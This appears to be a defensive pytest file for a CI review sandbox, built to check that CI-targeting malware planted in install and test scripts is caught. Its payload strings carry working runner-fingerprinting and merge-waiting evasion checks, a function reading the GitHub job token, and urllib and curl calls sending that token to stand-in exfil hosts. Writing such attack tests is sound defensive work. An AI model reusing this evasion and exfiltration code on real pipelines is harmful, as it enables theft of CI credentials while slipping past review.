"""Malware that checks it is on a runner before it acts still acts inside Cujo (issue 22),
and malware that waits for the merge finds it there (issue 33).

Each payload here is gated, as CI-targeting malware gates itself, on the one-line checks an
application can make of where it runs: the process tree, the mounts, the accounts, the
environment, the image's folders, HOME, the resolver, the TLS issuer and an answer from
api.github.com; and on when it runs: only in the job of the push to the default branch
(the event, the ref, the event file, the branch checked out), only on a merge commit. It
sends the decoy token only when every check it makes reads "hosted runner, after the
merge". Each payload first sends it plain, to a host of its own, then gated: the review
must be blocked by both thefts, so every gate must have opened. What only the kernel shows
(no_new_privs, the bounding set, the uid map) and a random name that resolves are left
out: docs/limits.md says why they stay.

The checks are written here as an attacker writes them, not borrowed from the fingerprint
probe, so a probe that reads the wrong thing cannot make this pass. Each gate prints its
name and what it read, so a failing review names the gate that stayed shut.
"""

from __future__ import annotations

import json
import os

import pytest
from cujorun import Review
from e2ecases import ISOLATION, Case, CaseReviews, assert_blocked, case_reviews

pytestmark = ISOLATION

FAST = {"install": 120, "test": 120, "smoke": 60, "probes": 60}
CALC = "def add(a, b):\n    return a + b\n"

# The gates, one function each, named as the review's output names them. Together they
# are every application-level row of issue 22's table, and issue 33's two waits for the
# merge.
GATES = r"""
import json, os, re, socket, ssl, urllib.request

def pid1():
    return open("/proc/1/comm").read().strip() == "systemd"

def busy():
    return sum(p.isdigit() for p in os.listdir("/proc")) >= 100

def mounts():
    text = open("/proc/self/mountinfo").read()
    return "cujo" not in text.lower() and "/run/netns" not in text

def accounts():
    lines = open("/etc/passwd").read().splitlines()
    return len(lines) >= 25 and any(l.startswith("runner:") for l in lines)

def no_proxy():
    return not any(k.lower().endswith("_proxy") or k.lower() == "all_proxy" for k in os.environ)

def environment():
    return len(os.environ) >= 100 and len(os.environ["PATH"].split(":")) >= 14

def image():
    folders = ("/run/systemd/resolve", "/home/linuxbrew", *HOST_IMAGE)
    return all(os.path.isdir(p) for p in folders) and os.path.exists("/var/run/docker.sock")

def home():
    names = (".aws", ".npmrc", ".pypirc", ".env")
    return not any(os.path.lexists(os.path.expanduser("~/" + n)) for n in names)

def resolver():
    text = open("/etc/resolv.conf").read()
    return re.search(r"^nameserver 127\.0\.0\.53$", text, re.M) is not None

def issuer():
    ctx = ssl.create_default_context()
    with socket.create_connection(("api.github.com", 443), timeout=20) as raw:
        with ctx.wrap_socket(raw, server_hostname="api.github.com") as tls:
            cert = tls.getpeercert()
    org = {k: v for rdn in cert["issuer"] for k, v in rdn}.get("organizationName", "")
    public = org in ("Sectigo Limited", "DigiCert Inc")
    return public and "mitmproxy" not in json.dumps(cert).lower()

def zen():
    with urllib.request.urlopen("https://api.github.com/zen", timeout=20) as answer:
        return answer.status == 200 and len(answer.read().strip()) > 10

def git(*args):
    import subprocess
    done = subprocess.run(["git", *args], capture_output=True, text=True, check=True)
    return done.stdout.strip()

def pushed_to_default():
    # Merged: the job of the push to the default branch, as a workflow on `push:` runs.
    with open(os.environ["GITHUB_EVENT_PATH"]) as fh:
        event = json.load(fh)
    default = "refs/heads/" + event["repository"]["default_branch"]
    env = os.environ
    return (env["GITHUB_EVENT_NAME"] == "push" and env["GITHUB_REF"] == "refs/heads/main"
            and event["ref"] == default == env["GITHUB_REF"] and "pull_request" not in event
            and not env.get("GITHUB_HEAD_REF") and not env.get("GITHUB_BASE_REF")
            and event["after"] == env["GITHUB_SHA"] == git("rev-parse", "HEAD")
            and event["head_commit"]["id"] == env["GITHUB_SHA"]
            and git("symbolic-ref", "--short", "HEAD") == "main")

def merge_commit():
    # What CI runs after the merge (and on refs/pull/N/merge): never the author's commit.
    shas = git("rev-list", "--parents", "-n1", "HEAD").split()
    return len(shas) == 3 and shas[0] == os.environ["GITHUB_SHA"]

shut = []
for gate in (pid1, busy, mounts, accounts, no_proxy, environment, image, home, resolver,
             issuer, zen, pushed_to_default, merge_commit):
    try:
        opened = gate()
    except Exception as exc:  # a check that cannot run reads as "not a runner"
        opened = False
        print(f"gate {gate.__name__}: {type(exc).__name__}: {exc}")
    print(f"gate {gate.__name__}: {'open' if opened else 'SHUT'}")
    if not opened:
        shut.append(gate.__name__)

def steal():
    # The job's token: from the environment, else the one actions/checkout leaves.
    import subprocess
    key = "http.https://github.com/.extraheader"
    header = subprocess.run(["git", "config", "--get", key], capture_output=True, text=True)
    return os.environ.get("GITHUB_TOKEN") or header.stdout.strip()
"""

# The image's own folders (toolcache, .NET, Android, snaps) are the host's, shown through
# the sandbox's read-only root: on a hosted runner they are there, on this machine
# perhaps not (docs/limits.md, "What the mount table still shows"). The gate checks those
# the host has, and every folder Cujo itself makes.
IMAGE = ("/opt/hostedtoolcache", "/usr/share/dotnet", "/usr/local/lib/android", "/snap")
GATES = f"HOST_IMAGE = {[p for p in IMAGE if os.path.isdir(p)]!r}\n" + GATES

# The payload: sent plain, then again only when no gate stayed shut. urllib and curl, as
# the campaigns do.
SEND_WITH_URLLIB = r"""
urllib.request.urlopen("https://plain.exfil.test/now", data=steal().encode(), timeout=20)
print("sent plain")
if shut:
    print("not a runner:", ",".join(shut))
else:
    urllib.request.urlopen("https://collector.exfil.test/gated", data=steal().encode(), timeout=20)
    print("sent gated")
"""

SEND_WITH_CURL = r"""
import subprocess
def send(url):
    subprocess.run(["curl", "-sS", "-m", "20", "-o", "/dev/null", "--data-binary",
                    "t=" + steal(), url], check=True)
send("https://plain.exfil.test/now")
print("sent plain")
if shut:
    print("not a runner:", ",".join(shut))
else:
    send("https://drop.exfil.test/gated")
    print("sent gated")
"""


GATE_COUNT = 13


def python(code: str) -> str:
    """Return a shell script line running ``code`` with the run's Python."""
    return "python - <<'PY'\n" + code.strip() + "\nPY\n"


def project(install: str = "echo installed\n", test: str = "echo tested\n") -> dict[str, str]:
    """Return a project whose install and tests are `ci/install.sh` and `ci/test.sh`."""
    policy = {"timeouts": FAST, "install": "bash ci/install.sh", "test": "bash ci/test.sh"}
    return {
        "requirements.txt": "",
        "calc.py": CALC,
        "ci/install.sh": install,
        "ci/test.sh": test,
        ".cujo.yml": json.dumps({**policy, "smoke": "true"}) + "\n",
    }


BASE = project()
CASES: dict[str, Case] = {
    # In the tests, as a poisoned test helper would.
    "in-tests": Case(BASE, project(test=python(GATES + SEND_WITH_URLLIB))),
    # At install, as a setup script or a postinstall hook would.
    "at-install": Case(BASE, project(install=python(GATES + SEND_WITH_CURL))),
}

reviews = case_reviews(CASES, "gated")


def _gates(review: Review, check: str) -> str:
    """Return the gate lines the payload printed in ``check``'s commands."""
    lines = [
        line
        for command in review.report(check)["commands"]
        for line in command["stdout_tail"].splitlines()
        if line.startswith(("gate ", "not a runner", "sent"))
    ]
    return "\n".join(lines)


def _stolen_by(review: Review, check: str) -> set[str]:
    """Return the hosts ``check``'s requests carried a decoy to."""
    return {e["host"] for e in review.report(check)["egress"] if e["decoy_seen"]}


def test_a_theft_gated_on_every_runner_check_runs_in_the_tests_and_blocks(
    reviews: CaseReviews,
) -> None:
    review = reviews.get("in-tests")
    gates = _gates(review, "tests")
    assert gates.count(": open") == GATE_COUNT, gates
    assert "sent gated" in gates, gates
    assert_blocked(review, "decoy-egress")
    assert _stolen_by(review, "tests") == {"plain.exfil.test", "collector.exfil.test"}


def test_a_theft_gated_on_every_runner_check_runs_at_install_and_blocks(
    reviews: CaseReviews,
) -> None:
    review = reviews.get("at-install")
    gates = _gates(review, "install")
    assert gates.count(": open") == GATE_COUNT, gates
    assert "sent gated" in gates, gates
    # An install that talks to hosts other than a registry is critical on its own too.
    assert_blocked(review, "decoy-egress", "install-egress")
    assert _stolen_by(review, "install") == {"plain.exfil.test", "drop.exfil.test"}


@pytest.mark.parametrize("gate", ["pushed_to_default", "merge_commit"])
def test_a_theft_waiting_for_the_merge_finds_it_in_the_tests_and_at_install(
    reviews: CaseReviews, gate: str
) -> None:
    """Attack test (issue 33): a payload that fires only in the job of the push to the
    default branch, or only on a merge commit, fires in the review, wherever it runs."""
    for case, check in (("in-tests", "tests"), ("at-install", "install")):
        gates = _gates(reviews.get(case), check)
        assert f"gate {gate}: open" in gates, gates
